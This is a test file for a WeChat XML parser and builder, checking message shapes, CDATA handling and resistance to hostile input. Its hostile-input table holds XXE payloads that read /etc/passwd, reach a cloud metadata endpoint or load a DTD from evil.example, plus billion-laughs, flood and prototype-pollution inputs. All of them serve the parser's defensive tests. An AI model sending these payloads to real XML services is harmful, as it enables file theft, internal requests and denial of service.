// SECURITY.md §A8 (hostile XML) and wechat-protocol.md §5.3–§5.6 / §6.2–§6.3 (WeChat XML shapes).
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_PUSH_BYTES, MAX_XML_NODES, XmlError, buildWeChatXml, parseWeChatXml } from './xml.ts';

const PUSH =
  '<xml><ToUserName><![CDATA[gh_0123456789ab]]></ToUserName><FromUserName><![CDATA[oBridgeTestUser0000000000001]]></FromUserName><CreateTime>1700000000</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[绑定 账号]]></Content><MsgId>24312345678901234</MsgId></xml>';

function reasonOf(input: string | Buffer): string {
  try {
    parseWeChatXml(input);
    return 'parsed';
  } catch (e) {
    if (e instanceof XmlError) return e.reason;
    throw e;
  }
}

/** Best of five runs, so a busy shared CPU does not fail a parser that is in fact fast. */
function bestMs(input: string | Buffer): number {
  let best = Infinity;
  for (let i = 0; i < 5; i++) {
    const t0 = performance.now();
    reasonOf(input);
    best = Math.min(best, performance.now() - t0);
  }
  return best;
}

const lol = (n: number) => `<!ENTITY lol${n} "${`&lol${n - 1};`.repeat(10)}">`;
const hostile: [name: string, input: string | Buffer, expected: string[]][] = [
  ['XXE SYSTEM file', '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>', ['doctype']],
  ['XXE SYSTEM http', '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><xml><Content>&xxe;</Content></xml>', ['doctype']],
  ['XXE parameter entity', '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>', ['doctype']],
  ['billion laughs', `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol0 "lol">${[1, 2, 3, 4, 5, 6, 7, 8, 9].map(lol).join('')}]><xml><Content>&lol9;</Content></xml>`, ['doctype']],
  ['quadratic blowup', `<!DOCTYPE xml [<!ENTITY a "${'a'.repeat(30_000)}">]><xml><Content>${'&a;'.repeat(10_000)}</Content></xml>`, ['doctype']],
  ['quadratic blowup, DTD stripped', `<xml><Content>${'&a;'.repeat(20_000)}</Content></xml>`, ['malformed']],
  ['DOCTYPE inside the root', '<xml><!DOCTYPE x [<!ENTITY a "b">]><Content>&a;</Content></xml>', ['doctype']],
  ['bare ENTITY declaration', '<xml><!ENTITY a "b"><Content>&a;</Content></xml>', ['doctype']],
  ['numeric-entity flood x100k', `<xml><Content>${'&#x41;'.repeat(100_000)}</Content></xml>`, ['too_large']],
  ['1 MB body (string)', `<xml><Content><![CDATA[${'x'.repeat(1 << 20)}]]></Content></xml>`, ['too_large']],
  ['1 MB body (Buffer)', Buffer.alloc(1 << 20, 0x41), ['too_large']],
  ['10k-deep nesting (open tags)', `<xml>${'<a>'.repeat(10_000)}`, ['too_deep']],
  ['10k-deep nesting (balanced)', `<xml>${'<a>'.repeat(10_000)}x${'</a>'.repeat(10_000)}</xml>`, ['too_large', 'too_deep']],
  ['unterminated CDATA', `<xml><Content><![CDATA[${']]'.repeat(30_000)}`, ['malformed']],
  ['unterminated tags', `<xml>${'<a'.repeat(30_000)}`, ['malformed']],
  ['comment flood', `<xml>${'<!-- x -->'.repeat(6_000)}</xml>`, ['too_large']],
  ['element flood', `<xml>${'<a/>'.repeat(16_000)}</xml>`, ['too_large']],
  ['distinct-name flood', `<xml>${Array.from({ length: 6_000 }, (_, i) => `<a${i}/>`).join('')}</xml>`, ['too_large']],
  ['attribute flood', `<xml><a ${'b="" '.repeat(12_000)}/></xml>`, ['too_large']],
  ['numeric-entity flood under the size cap', `<xml><Content>${'&#x41;'.repeat(10_000)}</Content></xml>`, ['too_large']],
  ['multibyte just over the cap', `<xml><C>${'绑'.repeat(MAX_PUSH_BYTES / 3)}</C></xml>`, ['too_large']],
];

describe('parseWeChatXml against hostile input (SECURITY.md §A8)', () => {
  parseWeChatXml(PUSH); // warm up the JIT so timings measure the parser, not compilation

  it.each(hostile)('When given %s, then it is rejected or safely parsed within 10 ms', (_name, input, expected) => {
    expect(expected).toContain(reasonOf(input));
    expect(bestMs(input)).toBeLessThanOrEqual(10);
  });

  it('When references and elements stay within the node budget, then they are decoded and parsed', () => {
    const refs = `<xml><Content>${'&#x41;'.repeat(MAX_XML_NODES - 2)}</Content></xml>`;
    expect(parseWeChatXml(refs).Content).toBe('A'.repeat(MAX_XML_NODES - 2));
    // ~800 nodes: four times the richest real push (MASSSENDJOBFINISH with copyright results).
    const items = `<xml><R>${'<item><A>1</A><B><![CDATA[x]]></B></item>'.repeat(200)}</R></xml>`;
    expect((parseWeChatXml(items).R as { item: unknown[] }).item).toHaveLength(200);
  });

  it('When an XInclude element appears, then it is just an empty field and nothing is fetched', () => {
    expect(parseWeChatXml('<xml><xi:include href="file:///etc/passwd"/></xml>')).toEqual({ 'xi:include': '' });
  });

  it('When a user sends DTD-like text inside CDATA, then it is an ordinary string', () => {
    const f = parseWeChatXml('<xml><Content><![CDATA[<!DOCTYPE html><!ENTITY x "y">&x;]]></Content></xml>');
    expect(f.Content).toBe('<!DOCTYPE html><!ENTITY x "y">&x;');
  });

  it('When a document is rejected, then the error message does not echo its content', () => {
    try {
      parseWeChatXml('<xml><Content>secret-openid &bogus;</Content></xml>');
      expect.unreachable();
    } catch (e) {
      expect((e as Error).message).not.toContain('secret-openid');
      expect((e as Error).message).not.toContain('bogus');
    }
  });
});

describe('parseWeChatXml shapes (§5.3–§5.6)', () => {
  it('When a push arrives, then leaves are strings and 64-bit ids keep every digit', () => {
    expect(parseWeChatXml(PUSH)).toEqual({
      ToUserName: 'gh_0123456789ab',
      FromUserName: 'oBridgeTestUser0000000000001',
      CreateTime: '1700000000',
      MsgType: 'text',
      Content: '绑定 账号',
      MsgId: '24312345678901234',
    });
    expect(parseWeChatXml(Buffer.from(`\uFEFF${PUSH}`, 'utf8')).MsgId).toBe('24312345678901234');
  });

  it('When XML is pretty-printed with a declaration, comments and repeated items, then blocks become objects and repeats arrays', () => {
    const f = parseWeChatXml(`<?xml version="1.0" encoding="UTF-8"?>
      <!-- news reply, §5.6 -->
      <xml>
        <ArticleCount>2</ArticleCount>
        <Articles>
          <item><Title><![CDATA[one]]></Title><Url><![CDATA[https://a.example/]]></Url></item>
          <item>
            <Title> two &amp; &#x4e09; &lt;3 </Title>
            <Empty/><Blank></Blank><Spaced>
              <![CDATA[ keep ]]>
            </Spaced>
          </item>
        </Articles>
        <ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>1</ScanResult></ScanCodeInfo>
      </xml>
    `);
    expect(f).toEqual({
      ArticleCount: '2',
      Articles: {
        item: [
          { Title: 'one', Url: 'https://a.example/' },
          { Title: 'two & 三 <3', Empty: '', Blank: '', Spaced: ' keep ' },
        ],
      },
      ScanCodeInfo: { ScanType: 'qrcode', ScanResult: '1' },
    });
  });

  it('When elements carry attributes, then the attributes are ignored', () => {
    expect(parseWeChatXml(`<xml a="1"><B c='x>y' d = "2">v</B></xml>`)).toEqual({ B: 'v' });
  });

  it.each([
    ['<root><A>1</A></root>', 'not_flat'],
    ['<xml>just text</xml>', 'not_flat'],
    ['<xml><A>text<B/></A></xml>', 'not_flat'],
    ['<xml><A><B/>text</A></xml>', 'not_flat'],
    ['<xml><A><![CDATA[x]]><B/></A></xml>', 'not_flat'],
    ['<xml><A></B></xml>', 'malformed'],
    ['<xml><A>1</A>', 'malformed'],
    ['<xml/><xml/>', 'malformed'],
    ['junk<xml/>', 'malformed'],
    ['<xml><A>a & b</A></xml>', 'malformed'],
    ['<xml><A>&#0;</A></xml>', 'malformed'],
    ['<xml><A>&#xD800;</A></xml>', 'malformed'],
    ['<xml><A>\u0000</A></xml>', 'malformed'],
    ['<xml><A>\uD800</A></xml>', 'malformed'],
    ['<xml><?php x ?></xml>', 'malformed'],
    ['<xml><__proto__><polluted>1</polluted></__proto__></xml>', 'malformed'],
    ['<xml><1A>1</1A></xml>', 'malformed'],
    ['', 'malformed'],
  ])('When given %j, then it is rejected as %s', (input, reason) => {
    expect(reasonOf(input)).toBe(reason);
  });

  it('When a Buffer is not valid UTF-8, then it is rejected as malformed', () => {
    expect(reasonOf(Buffer.from([0x3c, 0x78, 0x6d, 0x6c, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x78, 0x6d, 0x6c, 0x3e]))).toBe('malformed');
  });
});

describe('buildWeChatXml (§5.6, §6.3)', () => {
  it('When fields mix strings, numbers, bigints, blocks and repeats, then WeChat-style XML results', () => {
    expect(
      buildWeChatXml({ S: 'a<b&', N: 1700000000, F: 23.5, Id: 24312345678901234n, Skip: undefined, Nil: null, Block: { item: [{ T: 'x' }, { T: 'y' }] } }),
    ).toBe(
      '<xml><S><![CDATA[a<b&]]></S><N>1700000000</N><F>23.5</F><Id>24312345678901234</Id><Block><item><T><![CDATA[x]]></T></item><item><T><![CDATA[y]]></T></item></Block></xml>',
    );
  });

  it('When a string contains "]]>", then the CDATA is split and the text round-trips', () => {
    const content = ']]>a]]]>b]]>]]>';
    const xml = buildWeChatXml({ Content: content });
    expect(xml).toBe('<xml><Content><![CDATA[]]]]><![CDATA[>a]]]]]><![CDATA[>b]]]]><![CDATA[>]]]]><![CDATA[>]]></Content></xml>');
    expect(parseWeChatXml(xml).Content).toBe(content);
  });

  it.each([
    [{ A: 'x\u0001' }, RangeError],
    [{ A: '\uDC00' }, RangeError],
    [{ A: Number.NaN }, RangeError],
    [{ A: true }, TypeError],
    [{ A: new Date(0) }, TypeError],
    [{ 'bad name': 'x' }, TypeError],
    [JSON.parse('{"__proto__":"x"}') as Record<string, unknown>, TypeError],
  ])('When given an unrepresentable field %#, then it throws', (fields, type) => {
    expect(() => buildWeChatXml(fields as Record<string, unknown>)).toThrow(type);
  });

  it('When nesting is deeper than the parser accepts, then the builder refuses too', () => {
    const deep: Record<string, unknown> = {};
    let cur = deep;
    for (let i = 0; i < 10; i++) cur = (cur.A = {}) as Record<string, unknown>;
    expect(() => buildWeChatXml(deep)).toThrow(RangeError);
  });

  // Every character XML 1.0 allows, with the troublesome sequences mixed in often.
  const xmlChar = fc.oneof(
    fc.constantFrom('\t', '\n', '\r', ' ', ']]>', ']', '>', '<', '&', '&amp;', '<![CDATA[', '\u00e9', '绑'),
    fc.integer({ min: 0x20, max: 0xd7ff }).map((c) => String.fromCodePoint(c)),
    fc.integer({ min: 0xe000, max: 0xfffd }).map((c) => String.fromCodePoint(c)),
    fc.integer({ min: 0x10000, max: 0x10ffff }).map((c) => String.fromCodePoint(c)),
  );

  it('When arbitrary unicode strings are built then parsed (string and bytes), then they come back unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: xmlChar, maxLength: 60 }), fc.string({ unit: xmlChar, maxLength: 20 }), (a, b) => {
        const xml = buildWeChatXml({ Content: a, Nested: { Item: [a, b] } });
        const expected = { Content: a, Nested: { Item: [a, b] } };
        expect(parseWeChatXml(xml)).toEqual(expected);
        expect(parseWeChatXml(Buffer.from(xml, 'utf8'))).toEqual(expected);
      }),
      { numRuns: 300 },
    );
  });
});
